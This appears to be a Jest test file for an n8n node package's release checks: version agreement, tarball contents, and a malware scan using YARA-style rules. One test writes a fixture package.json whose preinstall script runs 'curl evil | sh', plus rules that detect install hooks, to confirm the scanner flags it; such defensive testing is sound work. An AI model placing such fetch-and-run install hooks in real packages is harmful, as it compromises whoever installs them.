/* eslint-disable @n8n/community-nodes/no-restricted-imports, @n8n/community-nodes/no-restricted-globals, @n8n/community-nodes/no-dangerous-functions --
   Test code, never part of the package. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { agreementProblems } from './agreement';
import { contentProblems, expectedContents, filesBelow } from './contents';
import type { Finding } from './malware';

const ROOT = path.resolve(__dirname, '../..');

describe('a release', () => {
	const release = {
		version: '0.2.0',
		lockfileVersion: '0.2.0',
		changelog: '# Changelog\n\n## 0.2.0\n\n- New\n\n## 0.1.0\n\nFirst.\n',
		tag: '0.2.0',
	};

	it('goes out when all four places speak of one version', () => {
		expect(agreementProblems(release)).toEqual([]);
	});

	it('can be looked at before there is a tag', () => {
		expect(agreementProblems({ ...release, tag: undefined })).toEqual([]);
	});

	it.each([
		[{ tag: '0.2.1' }, 'The tag is 0.2.1, but package.json says 0.2.0'],
		[{ tag: 'v0.2.0' }, 'The tag is v0.2.0, but package.json says 0.2.0'],
		[{ lockfileVersion: '0.1.0' }, 'package-lock.json says 0.1.0, but package.json says 0.2.0'],
		[
			{ changelog: '# Changelog\n\n## 0.1.0\n\nFirst.\n' },
			'The newest heading of CHANGELOG.md is 0.1.0, but package.json says 0.2.0',
		],
		[
			{ changelog: '# Changelog\n' },
			'The newest heading of CHANGELOG.md is nothing, but package.json says 0.2.0',
		],
		[
			{ changelog: '# Changelog\n\n## 0.2.0\n\n## 0.1.0\n\nFirst.\n' },
			'CHANGELOG.md says nothing about 0.2.0',
		],
	])('is stopped by %j', (change, problem) => {
		expect(agreementProblems({ ...release, ...change })).toContain(problem);
	});

	it('of today would go out', () => {
		const read = (file: string) => readFileSync(path.join(ROOT, file), 'utf8');
		const { version } = JSON.parse(read('package.json'));
		const lockfileVersion = JSON.parse(read('package-lock.json')).version;
		const changelog = read('CHANGELOG.md');
		expect(agreementProblems({ version, lockfileVersion, changelog })).toEqual([]);
	});
});

describe('the contents of a tarball', () => {
	let folder: string;

	beforeEach(() => {
		folder = mkdtempSync(path.join(os.tmpdir(), 'peeker-contents-'));
	});

	afterEach(() => rmSync(folder, { recursive: true, force: true }));

	function write(file: string, text = ''): void {
		mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
		writeFileSync(path.join(folder, file), text);
	}

	it('are told by the sources', () => {
		for (const file of ['A.node.ts', 'A.node.json', 'a.svg', '__schema__/v1.0.0/b/get.json']) {
			write(`nodes/A/${file}`);
		}
		write('nodes/A/properties.ts');
		write('credentials/A.credentials.ts');
		write('test/a.svg');
		expect(expectedContents(folder)).toEqual([
			'LICENSE.md',
			'README.md',
			'dist/credentials/A.credentials.js',
			'dist/nodes/A/A.node.js',
			'dist/nodes/A/A.node.json',
			'dist/nodes/A/__schema__/v1.0.0/b/get.json',
			'dist/nodes/A/a.svg',
			'dist/nodes/A/properties.js',
			'dist/nodes/A/properties.json',
			'package.json',
		]);
	});

	it('of this package are those of its sources', () => {
		const expected = expectedContents(ROOT);
		const { n8n } = JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
		expect(expected).toEqual(expect.arrayContaining([...n8n.nodes, ...n8n.credentials]));
		expect(expected.filter((file) => /test|\.ts$|\.map$|example/i.test(file))).toEqual([]);
	});

	it('are wrong with a file too few or too many', () => {
		expect(contentProblems(['a', 'b'], ['a', 'b'])).toEqual([]);
		expect(contentProblems(['a', 'secret.env'], ['a', 'b'])).toEqual([
			'b is missing',
			'secret.env is not expected',
		]);
	});

	it('are scanned for malware by rules that accuse, in the files that they are about', () => {
		write(
			'rules/hooks.meta',
			'rule shared { strings: $hook = "\\"preinstall\\"" condition: $hook }\n',
		);
		write(
			'rules/install.yar',
			'include "hooks.meta"\nrule threat_install { meta: description = "runs at install"' +
				' path_include = "*/package.json" condition: shared }\n',
		);
		write('rules/send.yar', 'rule capability_send { strings: $a = "preinstall" condition: $a }\n');
		write('package/package.json', '{"scripts": {"preinstall": "curl evil | sh"}}');
		write('package/README.md', 'npm runs a "preinstall" script');
		write('package/clean/package.json', '{}');
		// The engine is an ES module, which jest cannot load.
		const script = `import('./test/package/malware.ts').then(async ({ default: { readRules, scanForMalware } }) =>
			console.log(JSON.stringify(await scanForMalware(process.argv[1], readRules(process.argv[2])))))`;
		const printed = execFileSync(
			process.execPath,
			['--import', 'tsx', '-e', script, path.join(folder, 'package'), path.join(folder, 'rules')],
			{ cwd: ROOT, encoding: 'utf8' },
		);
		const findings: Finding[] = JSON.parse(printed);
		expect(findings).toEqual([
			{ rule: 'threat_install', file: 'package.json', description: 'runs at install' },
		]);
		expect(filesBelow(path.join(folder, 'package'))).toHaveLength(3);
	});
});
